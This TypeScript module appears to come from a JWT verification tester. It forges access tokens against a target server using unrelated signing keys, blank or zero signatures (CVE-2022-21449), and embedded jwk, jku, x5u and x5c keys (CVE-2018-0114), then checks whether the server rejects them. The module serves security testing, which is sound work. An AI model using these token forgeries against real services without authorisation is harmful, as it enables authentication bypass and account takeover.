// Only a configured key can verify a signature (RFC 7515 §5.2, RFC 8725 §3.10).
import { createPublicKey, randomBytes } from "node:crypto";
import { createServer } from "node:http";
import { type Attack, bearerHeader, isUnauthorized, judge, rejectsTokens, sendEach, type Target } from "../attack.js";
import { encode, forge, forgeHmac, join, parseSegment, segmentsOf } from "../forge.js";
import { importKey, newJwk } from "../key.js";
import { goodClaims } from "./good.js";

/** The token brings its own key, embedded or at a URL of this process, which records a fetch. */
async function embeddedKey(target: Target) {
  const own = { ...newJwk("EdDSA"), kid: "brought" };
  const publicKey = createPublicKey({ key: own, format: "jwk" });
  const jwk = publicKey.export({ format: "jwk" });
  const secret = randomBytes(32);
  const oct = { kty: "oct", k: secret.toString("base64url"), alg: "HS256" };
  const listener = await listen(JSON.stringify({ keys: [{ ...jwk, alg: "EdDSA", kid: "brought" }] }));
  try {
    const key = importKey(own);
    const claims = goodClaims(target);
    const members: readonly (readonly [string, Readonly<Record<string, unknown>>])[] = [
      ["jwk", { jwk }],
      ["jku", { jku: listener.url, kid: "brought" }],
      ["x5u", { x5u: listener.url }],
      ["x5c", { x5c: [publicKey.export({ format: "der", type: "spki" }).toString("base64")] }],
    ];
    const tokens = [
      ...members.map(([what, more]) => [what, forge(key, { alg: "EdDSA", typ: "at+jwt", ...more }, claims)] as const),
      ["jwk, a secret key", forgeHmac(secret, { alg: "HS256", typ: "at+jwt", jwk: oct }, claims)] as const,
    ];
    const requests = tokens.map(
      ([what, token]) => [what, { path: "/session", headers: [bearerHeader(token)] }] as const,
    );
    const verdict = judge(await sendEach(target, requests), isUnauthorized);
    if (listener.visits() > 0)
      return { outcome: "succeeded", detail: "the server fetched the URL in the token" } as const;
    return verdict;
  } finally {
    listener.close();
  }
}

/** Listens on this machine only. A remote server cannot reach it and is judged by its response. */
function listen(body: string): Promise<{ readonly url: string; visits(): number; close(): void }> {
  let visits = 0;
  const server = createServer((_, response) => {
    visits++;
    response.setHeader("Content-Type", "application/json").end(body);
  });
  return new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(0, "127.0.0.1", () => {
      const address = server.address();
      const port = typeof address === "object" ? address?.port : undefined;
      const close = () => {
        server.close();
        server.closeAllConnections();
      };
      resolve({ url: `http://127.0.0.1:${port}/jwks.json`, visits: () => visits, close });
    });
  });
}

/** Signatures that a faulty verifier accepts: none, zeros (CVE-2022-21449), or the form of another algorithm. */
async function blank(target: Target) {
  const { header, payload, signature } = segmentsOf((await target.sharedSession()).token);
  const { length } = Buffer.from(signature, "base64url");
  const der = Buffer.from("3006020100020100", "hex");
  const signatures: readonly (readonly [string, Uint8Array])[] = [
    ["nothing", Buffer.alloc(0)],
    ["one zero byte", Buffer.alloc(1)],
    [`${length} zero bytes`, Buffer.alloc(length)],
    ["64 zero bytes", Buffer.alloc(64)],
    ["zeros in DER", der],
    [`${length} bytes of ones`, Buffer.alloc(length, 0xff)],
  ];
  return rejectsTokens(
    target,
    signatures.map(([what, bytes]) => [`the signature is ${what}`, join(header, payload, encode(bytes))] as const),
  );
}

/** Signs with other keys of every kind, under the key ids of the server. */
async function otherKey(target: Target) {
  const { header, payload } = segmentsOf((await target.sharedSession()).token);
  const members = parseSegment(header);
  const content = Buffer.from(payload, "base64url");
  const kinds = ["HS256", "EdDSA", "ES256"] as const;
  return rejectsTokens(
    target,
    kinds.flatMap((alg) => {
      const key = importKey(newJwk(alg));
      return [
        [`another key (${alg})`, forge(key, { alg, kid: members["kid"], typ: "at+jwt" }, content)] as const,
        [`another key (${alg}) under the token's own header`, forge(key, members, content)] as const,
        [`another key (${alg}), no kid`, forge(key, { alg, typ: "at+jwt" }, content)] as const,
      ];
    }),
  );
}

export const signatureAttacks: readonly Attack[] = [
  { id: "other-key", title: "Sign with another key", source: "RFC 7515 §5.2", run: otherKey },
  { id: "blank-signature", title: "Send an empty or zero signature", source: "CVE-2022-21449", run: blank },
  {
    id: "embedded-key",
    title: "Bring a key inside the token (jwk, jku, x5u, x5c)",
    source: "RFC 8725 §3.10, CVE-2018-0114",
    run: embeddedKey,
  },
];
